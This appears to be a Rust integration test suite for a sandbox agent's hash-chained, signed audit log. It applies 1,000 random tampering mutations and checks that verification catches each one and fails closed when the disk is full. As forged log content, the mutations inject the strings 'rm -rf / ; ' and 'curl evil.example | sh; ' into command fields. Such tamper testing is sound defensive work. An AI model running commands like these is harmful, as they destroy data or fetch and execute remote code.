//! Tamper suite: a real audit dir written by the real [`AuditLog`]
//! (thousands of lines, rotated into several segments, checkpoints, a final
//! checkpoint), the checkpoints as the control plane receives them (the
//! log's status), then 1,000 seeded random mutations; each must make
//! `verify_dir` with those checkpoints fail and name where. Plus fail
//! closed on a real full filesystem (a small tmpfs) when run as root.
//!
//! `AUDIT_TAMPER_SEED=<u64>` replays a run (the seed is printed).

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use protocol::audit::AuditCheckpoint;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use sandbox_agent::audit::{
    verify_dir, AuditError, AuditEvent, AuditLog, AuditSettings, CredentialUseDetail, Decision,
    OutputDigest, VerifyOptions,
};
use sha2::{Digest, Sha256};

const AGENT: &str = "agt_tamper";

/// The files of a log: name → bytes (only `*.jsonl`).
type Files = BTreeMap<String, Vec<u8>>;

fn snapshot(dir: &Path) -> Files {
    let mut out = Files::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let e = e.unwrap();
        let name = e.file_name().into_string().unwrap();
        if name.ends_with(".jsonl") {
            out.insert(name, std::fs::read(e.path()).unwrap());
        }
    }
    out
}

fn write_dir(dir: &Path, files: &Files) {
    for e in std::fs::read_dir(dir).unwrap() {
        std::fs::remove_file(e.unwrap().path()).unwrap();
    }
    for (name, bytes) in files {
        std::fs::write(dir.join(name), bytes).unwrap();
    }
}

/// Chain order: segments (sorted by their zero-padded names), then audit.jsonl.
fn order(files: &Files) -> Vec<String> {
    let mut names: Vec<String> = files
        .keys()
        .filter(|n| *n != "audit.jsonl")
        .cloned()
        .collect();
    names.sort();
    if files.contains_key("audit.jsonl") {
        names.push("audit.jsonl".into());
    }
    names
}

fn lines_of(bytes: &[u8]) -> Vec<Vec<u8>> {
    bytes
        .split_inclusive(|b| *b == b'\n')
        .map(|l| l.to_vec())
        .collect()
}

fn event(rng: &mut StdRng, i: u64) -> Vec<AuditEvent> {
    let session = format!("sesn_{}", i % 7);
    let sandbox = format!("sbx_{}", i % 3);
    let tool_use = format!("toolu_{i:06}");
    match i % 10 {
        0 => vec![AuditEvent {
            call: "credential_use".into(),
            sandbox_id: Some(sandbox),
            session_id: Some(session),
            tool_use_id: Some(tool_use),
            outcome: "injected".into(),
            credential_use: Some(CredentialUseDetail {
                bridge_seq: i,
                bridge_at: "2026-12-06T15:00:00.000000Z".into(),
                credential_id: Some("vcrd_1".into()),
                vault_id: Some("vlt_1".into()),
                host: "git.example.com".into(),
                method: "GET".into(),
                path: "/repo.git/info/refs".into(),
                status: Some(200),
            }),
            ..Default::default()
        }],
        1 => vec![AuditEvent {
            call: "execute".into(),
            sandbox_id: Some(sandbox),
            session_id: Some(session),
            tool_use_id: Some(tool_use),
            tool: Some("bash".into()),
            input: Some(serde_json::json!({"command": "curl -fsS https://example.com"})),
            decision: Some(Decision {
                allowed: false,
                rule: Some("tools.deny".into()),
                reason: Some("bash is not allowed in this environment".into()),
            }),
            outcome: "refused".into(),
            ..Default::default()
        }],
        _ => {
            let tool = ["bash", "read", "write", "edit", "glob", "grep"][(i % 6) as usize];
            let input = serde_json::json!({
                "command": format!("cd /workspace && cargo test -p crate_{} -- --nocapture", rng.gen_range(0..1000)),
                "timeout": rng.gen_range(1..600),
            });
            let output = format!("{{\"stdout\":\"{}\"}}", "ok ".repeat(rng.gen_range(1..40)));
            let start = AuditEvent {
                call: "execute".into(),
                phase: Some("start".into()),
                sandbox_id: Some(sandbox.clone()),
                session_id: Some(session.clone()),
                tool_use_id: Some(tool_use.clone()),
                tool: Some(tool.into()),
                input: Some(input),
                decision: Some(Decision {
                    allowed: true,
                    ..Default::default()
                }),
                outcome: "started".into(),
                ..Default::default()
            };
            let end = AuditEvent {
                call: "execute".into(),
                phase: Some("end".into()),
                sandbox_id: Some(sandbox),
                session_id: Some(session),
                tool_use_id: Some(tool_use),
                tool: Some(tool.into()),
                outcome: "ok".into(),
                exit_code: Some(0),
                output: Some(OutputDigest::of(output.as_bytes())),
                duration_ms: rng.gen_range(1..5000),
                ..Default::default()
            };
            vec![start, end]
        }
    }
}

struct Built {
    _tmp: tempfile::TempDir,
    pristine: Files,
    older: Vec<Files>,
    checkpoints: Vec<AuditCheckpoint>,
    public_key: String,
}

/// Write a real log: ~5,000 lines over several segments, checkpoints every
/// 200 records, a final checkpoint; collect the checkpoints from the log's
/// status as the control plane would receive them.
fn build(rng: &mut StdRng) -> Built {
    let tmp = tempfile::tempdir().unwrap();
    let mut settings = AuditSettings::defaults(tmp.path());
    settings.rotate_bytes = 400 * 1024;
    settings.checkpoint_every_records = 200;
    let log = AuditLog::open_with(&settings, AGENT).unwrap();
    let mut status = log.watch_status();
    let mut checkpoints: Vec<AuditCheckpoint> = Vec::new();
    let mut older = Vec::new();
    let take = |status: &mut tokio::sync::watch::Receiver<protocol::audit::AuditStatus>,
                cps: &mut Vec<AuditCheckpoint>| {
        if status.has_changed().unwrap() {
            let st = status.borrow_and_update().clone();
            assert!(st.healthy, "{st:?}");
            if let Some(cp) = st.checkpoint {
                if cps.last() != Some(&cp) {
                    cps.push(cp);
                }
            }
        }
    };
    let mut i = 0;
    while log.status().checkpoint.as_ref().map_or(0, |c| c.seq) < 5000 {
        for ev in event(rng, i) {
            log.try_record(ev).unwrap();
            take(&mut status, &mut checkpoints);
        }
        i += 1;
        if i % 900 == 0 {
            older.push(snapshot(tmp.path()));
        }
    }
    for _ in 0..37 {
        for ev in event(rng, i) {
            log.try_record(ev).unwrap();
        }
        i += 1;
    }
    let last = log.checkpoint_now().unwrap().expect("a final checkpoint");
    take(&mut status, &mut checkpoints);
    assert_eq!(checkpoints.last(), Some(&last));
    let public_key = log.public_key().unwrap();
    drop(log);
    let pristine = snapshot(tmp.path());
    Built {
        _tmp: tmp,
        pristine,
        older,
        checkpoints,
        public_key,
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Kind {
    ModifyByte,
    ModifyField,
    DeleteLine,
    InsertCopiedLine,
    InsertMadeUpLine,
    Reorder,
    TruncateAtLine,
    TruncateMidLine,
    ReplaceWithOlder,
    ForgeRehash,
    DeleteSegment,
}

const KINDS: [Kind; 11] = [
    Kind::ModifyByte,
    Kind::ModifyField,
    Kind::DeleteLine,
    Kind::InsertCopiedLine,
    Kind::InsertMadeUpLine,
    Kind::Reorder,
    Kind::TruncateAtLine,
    Kind::TruncateMidLine,
    Kind::ReplaceWithOlder,
    Kind::ForgeRehash,
    Kind::DeleteSegment,
];

fn pick_file(rng: &mut StdRng, files: &Files) -> String {
    let names = order(files);
    names[rng.gen_range(0..names.len())].clone()
}

/// Change one JSON value in a line, textually (the line stays valid JSON).
fn change_field(rng: &mut StdRng, line: &[u8]) -> Vec<u8> {
    let text = String::from_utf8(line.to_vec()).unwrap();
    let is_checkpoint = text.contains("\"call\":\"checkpoint\"");
    let mut candidates: Vec<(&str, &str)> = vec![
        ("\"duration_ms\":", "\"duration_ms\":9"),
        ("\"outcome\":\"", "\"outcome\":\"x"),
        ("\"at\":\"2026", "\"at\":\"2025"),
        ("\"seq\":", "\"seq\":1"),
        ("\"prev\":\"", "\"prev\":\"f"),
    ];
    if is_checkpoint {
        candidates.push(("\"signature\":\"", "\"signature\":\"A"));
        candidates.push(("\"agent_id\":\"", "\"agent_id\":\"x"));
    }
    if text.contains("\"command\":\"") {
        candidates.push(("\"command\":\"", "\"command\":\"rm -rf / ; "));
    }
    let (from, to) = candidates[rng.gen_range(0..candidates.len())];
    let out = text.replacen(from, to, 1);
    assert_ne!(out, text);
    out.into_bytes()
}

fn hash_hex(prev: &str, body: &[u8]) -> String {
    let mut h = Sha256::new();
    h.update(prev.as_bytes());
    h.update(b"\n");
    h.update(body);
    hex::encode(h.finalize())
}

/// A line with `prev` replaced and its hash recomputed (what someone
/// without the key can do).
fn rechain(line: &[u8], prev: &str) -> (Vec<u8>, String) {
    let text = std::str::from_utf8(line).unwrap().trim_end_matches('\n');
    let cut = text.rfind(",\"prev\":\"").unwrap();
    let body = format!("{},\"prev\":\"{prev}\"}}", &text[..cut]);
    let hash = hash_hex(prev, body.as_bytes());
    let full = format!("{},\"hash\":\"{hash}\"}}\n", &body[..body.len() - 1]);
    (full.into_bytes(), hash)
}

fn mutate(rng: &mut StdRng, kind: Kind, b: &Built) -> (Files, String) {
    let mut files = b.pristine.clone();
    match kind {
        Kind::ModifyByte => {
            let name = pick_file(rng, &files);
            let bytes = files.get_mut(&name).unwrap();
            let at = rng.gen_range(0..bytes.len());
            let old = bytes[at];
            let mut new = rng.gen::<u8>();
            while new == old {
                new = rng.gen();
            }
            bytes[at] = new;
            (files, format!("{name} byte {at}: {old:#04x} -> {new:#04x}"))
        }
        Kind::ModifyField => {
            let name = pick_file(rng, &files);
            let mut lines = lines_of(&files[&name]);
            let n = rng.gen_range(0..lines.len());
            lines[n] = change_field(rng, &lines[n]);
            files.insert(name.clone(), lines.concat());
            (files, format!("{name} line {}", n + 1))
        }
        Kind::DeleteLine => {
            let name = pick_file(rng, &files);
            let mut lines = lines_of(&files[&name]);
            let n = rng.gen_range(0..lines.len());
            lines.remove(n);
            files.insert(name.clone(), lines.concat());
            (files, format!("{name} line {}", n + 1))
        }
        Kind::InsertCopiedLine | Kind::InsertMadeUpLine => {
            let src = pick_file(rng, &files);
            let src_lines = lines_of(&files[&src]);
            let copied = src_lines[rng.gen_range(0..src_lines.len())].clone();
            let line = if kind == Kind::InsertCopiedLine {
                copied
            } else {
                let seq: u64 = rng.gen_range(1..6000);
                let prev = hex::encode(rng.gen::<[u8; 32]>());
                let hash = hex::encode(rng.gen::<[u8; 32]>());
                format!("{{\"v\":2,\"seq\":{seq},\"at\":\"2026-12-06T20:00:00Z\",\"call\":\"execute\",\"tool\":\"bash\",\"input\":{{\"command\":\"true\"}},\"outcome\":\"ok\",\"duration_ms\":1,\"prev\":\"{prev}\",\"hash\":\"{hash}\"}}\n").into_bytes()
            };
            let name = pick_file(rng, &files);
            let mut lines = lines_of(&files[&name]);
            let n = rng.gen_range(0..=lines.len());
            lines.insert(n, line);
            files.insert(name.clone(), lines.concat());
            (files, format!("{name} before line {}", n + 1))
        }
        Kind::Reorder => {
            let name = loop {
                let name = pick_file(rng, &files);
                if lines_of(&files[&name]).len() >= 2 {
                    break name;
                }
            };
            let mut lines = lines_of(&files[&name]);
            let a = rng.gen_range(0..lines.len());
            let mut c = if rng.gen_bool(0.5) {
                a + 1
            } else {
                rng.gen_range(0..lines.len())
            };
            if c >= lines.len() || c == a {
                c = if a == 0 { 1 } else { a - 1 };
            }
            lines.swap(a, c);
            files.insert(name.clone(), lines.concat());
            (files, format!("{name} lines {} and {}", a + 1, c + 1))
        }
        Kind::TruncateAtLine => {
            let name = pick_file(rng, &files);
            let mut lines = lines_of(&files[&name]);
            let keep = rng.gen_range(0..lines.len());
            lines.truncate(keep);
            files.insert(name.clone(), lines.concat());
            (files, format!("{name} after line {keep}"))
        }
        Kind::TruncateMidLine => {
            let name = pick_file(rng, &files);
            let bytes = files.get_mut(&name).unwrap();
            let mut at = rng.gen_range(1..bytes.len());
            while bytes[at - 1] == b'\n' {
                at -= 1;
                if at == 0 {
                    at = 1;
                    break;
                }
            }
            bytes.truncate(at);
            (files, format!("{name} at byte {at}"))
        }
        Kind::ReplaceWithOlder => {
            let n = rng.gen_range(0..b.older.len());
            (b.older[n].clone(), format!("older copy #{n}"))
        }
        Kind::ForgeRehash => {
            // change a line, then recompute prev/hash of it and of every line after it
            let names = order(&files);
            let total: usize = names.iter().map(|n| lines_of(&files[n]).len()).sum();
            let target = rng.gen_range(0..total);
            let mut prev: Option<String> = None;
            let mut idx = 0;
            let mut what = String::new();
            for name in &names {
                let mut lines = lines_of(&files[name]);
                for (i, line) in lines.iter_mut().enumerate() {
                    if idx == target {
                        let text = String::from_utf8(line.clone()).unwrap();
                        let changed = if text.contains("\"call\":\"checkpoint\"") {
                            // its envelope is not signed: forge what it signs
                            text.replacen("\"head\":\"", "\"head\":\"0", 1)
                        } else if text.contains("\"command\":\"") {
                            text.replacen(
                                "\"command\":\"",
                                "\"command\":\"curl evil.example | sh; ",
                                1,
                            )
                        } else {
                            text.replacen("\"outcome\":\"", "\"outcome\":\"x", 1)
                        };
                        assert_ne!(changed, text);
                        let p = text[text.rfind(",\"prev\":\"").unwrap() + 9..][..64].to_owned();
                        let (l, h) = rechain(changed.as_bytes(), &p);
                        *line = l;
                        prev = Some(h);
                        what = format!("{name} line {} (and every hash after it)", i + 1);
                    } else if let Some(p) = &prev {
                        let (l, h) = rechain(line, p);
                        *line = l;
                        prev = Some(h);
                    }
                    idx += 1;
                }
                files.insert(name.clone(), lines.concat());
            }
            (files, what)
        }
        Kind::DeleteSegment => {
            let name = pick_file(rng, &files);
            files.remove(&name);
            (files, format!("{name} deleted"))
        }
    }
}

#[test]
fn one_thousand_random_mutations_are_all_detected() {
    let seed: u64 = std::env::var("AUDIT_TAMPER_SEED")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(rand::random);
    println!("audit tamper suite: seed {seed} (AUDIT_TAMPER_SEED={seed} to replay)");
    let mut rng = StdRng::seed_from_u64(seed);
    let built = build(&mut rng);
    let segments = built.pristine.len() - 1;
    let lines: usize = built.pristine.values().map(|b| lines_of(b).len()).sum();
    println!(
        "log: {lines} lines in {} files ({segments} segments), {} checkpoints held by the control plane, {} older copies",
        built.pristine.len(),
        built.checkpoints.len(),
        built.older.len()
    );
    assert!(segments >= 3, "rotation made {segments} segments");
    assert!(lines >= 5000);
    assert!(built.checkpoints.len() >= 20);
    let opts = VerifyOptions {
        public_key: Some(built.public_key.clone()),
        checkpoints: built.checkpoints.clone(),
    };

    let work = tempfile::tempdir().unwrap();
    // the untouched copy verifies, with every checkpoint matched
    write_dir(work.path(), &built.pristine);
    let report = verify_dir(work.path(), &opts).unwrap();
    assert_eq!(report.lines as usize, lines);
    assert_eq!(report.matched_checkpoints, built.checkpoints.len());
    assert_eq!(
        report.unsigned_tail, 1,
        "only the final checkpoint line itself is unsigned"
    );
    assert_eq!(report.agent_id.as_deref(), Some(AGENT));
    // another key is not trusted
    let other = VerifyOptions {
        public_key: Some("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=".into()),
        checkpoints: vec![],
    };
    assert!(verify_dir(work.path(), &other).is_err());

    let mut detected: BTreeMap<Kind, usize> = BTreeMap::new();
    let mut tried: BTreeMap<Kind, usize> = BTreeMap::new();
    let mut by_error: BTreeMap<&str, usize> = BTreeMap::new();
    let mut examples: BTreeMap<Kind, String> = BTreeMap::new();
    let mut missed = Vec::new();
    for _ in 0..1000 {
        let kind = KINDS[rng.gen_range(0..KINDS.len())];
        let (files, what) = mutate(&mut rng, kind, &built);
        *tried.entry(kind).or_default() += 1;
        write_dir(work.path(), &files);
        match verify_dir(work.path(), &opts) {
            Ok(r) => missed.push(format!("{kind:?} {what}: verified ({} lines)", r.lines)),
            Err(e) => {
                let (name, located) = match &e {
                    AuditError::Broken { path, line, .. } => {
                        ("broken", path_in(path, work.path()) && *line > 0)
                    }
                    AuditError::Truncated { path, .. } => ("truncated", path_in(path, work.path())),
                    AuditError::RolledBack { path, line, .. } => {
                        ("rolled back", path_in(path, work.path()) && *line > 0)
                    }
                    _ => ("other", false),
                };
                if !located {
                    missed.push(format!("{kind:?} {what}: not located: {e}"));
                    continue;
                }
                *by_error.entry(name).or_default() += 1;
                *detected.entry(kind).or_default() += 1;
                examples
                    .entry(kind)
                    .or_insert_with(|| format!("{what} => {e}"));
            }
        }
    }
    println!("per kind (detected/tried):");
    for (kind, n) in &tried {
        println!(
            "  {kind:?}: {}/{n}",
            detected.get(kind).copied().unwrap_or(0)
        );
    }
    println!("by error: {by_error:?}");
    for (kind, ex) in &examples {
        let ex: String = ex.chars().take(300).collect();
        println!("  e.g. {kind:?}: {ex}");
    }
    let total: usize = detected.values().sum();
    println!("detected {total}/1000");
    assert!(missed.is_empty(), "undetected: {missed:#?}");
    assert_eq!(total, 1000);
    assert_eq!(tried.len(), KINDS.len(), "every kind was tried");
}

fn path_in(path: &Path, dir: &Path) -> bool {
    path.starts_with(dir) && path.file_name().is_some()
}

/// Fail closed on a real full filesystem: a 256 KiB tmpfs (root only: the
/// test says so and returns otherwise).
#[test]
fn a_full_disk_refuses_records_leaves_no_partial_line_and_recovers() {
    let mnt = tempfile::tempdir().unwrap();
    let ok = std::process::Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=256k", "tmpfs"])
        .arg(mnt.path())
        .status()
        .map(|s| s.success())
        .unwrap_or(false);
    if !ok {
        // CI runs as root: there the skip would hide the test, so it fails.
        assert!(
            std::env::var_os("CI").is_none(),
            "cannot mount a tmpfs (needs root), and CI is set"
        );
        println!("SKIPPED: cannot mount a tmpfs here (needs root)");
        return;
    }
    struct Unmount(PathBuf);
    impl Drop for Unmount {
        fn drop(&mut self) {
            let _ = std::process::Command::new("umount").arg(&self.0).status();
        }
    }
    let _guard = Unmount(mnt.path().to_owned());
    let dir = mnt.path().join("audit");
    let mut settings = AuditSettings::defaults(&dir);
    settings.checkpoint_every_records = 50;
    let log = AuditLog::open_with(&settings, AGENT).unwrap();
    let status = log.watch_status();
    // fill most of the filesystem
    let filler = mnt.path().join("filler");
    std::fs::write(&filler, vec![0u8; 200 * 1024]).unwrap();
    let mut rng = StdRng::seed_from_u64(7);
    let mut written = 0u64;
    let err = loop {
        let mut ev = event(&mut rng, 2).remove(0);
        ev.input = Some(serde_json::json!({"command": "x".repeat(rng.gen_range(100..900))}));
        match log.try_record(ev) {
            Ok(seq) => written = seq,
            Err(e) => break e,
        }
        assert!(written < 10_000, "the filesystem never filled up");
    };
    println!("refused after seq {written}: {err}");
    assert!(matches!(err, AuditError::Io { .. }), "{err}");
    let st = log.status();
    assert!(!st.healthy);
    let problem = st.problem.unwrap();
    assert!(
        problem.contains("audit.jsonl") && problem.contains("No space left"),
        "{problem}"
    );
    assert!(status.has_changed().unwrap());
    // no partial line: the file ends with a newline and verifies
    let bytes = std::fs::read(log.path()).unwrap();
    assert_eq!(bytes.last(), Some(&b'\n'));
    let r = verify_dir(&dir, &VerifyOptions::default()).unwrap();
    assert!(r.last_seq >= written);
    // still full: refused again
    assert!(log
        .try_record(AuditEvent {
            call: "execute".into(),
            input: Some(serde_json::json!({"command": "y".repeat(4096)})),
            outcome: "started".into(),
            ..Default::default()
        })
        .is_err());
    // space comes back: the next record is written, the log is healthy
    std::fs::remove_file(&filler).unwrap();
    let seq = log
        .try_record(AuditEvent {
            call: "execute".into(),
            outcome: "ok".into(),
            ..Default::default()
        })
        .unwrap();
    assert_eq!(seq, r.last_seq + 1);
    assert!(log.status().healthy && log.status().problem.is_none());
    log.checkpoint_now().unwrap();
    let r = verify_dir(&dir, &VerifyOptions::default()).unwrap();
    assert_eq!(r.unsigned_tail, 1);
    drop(log);
}
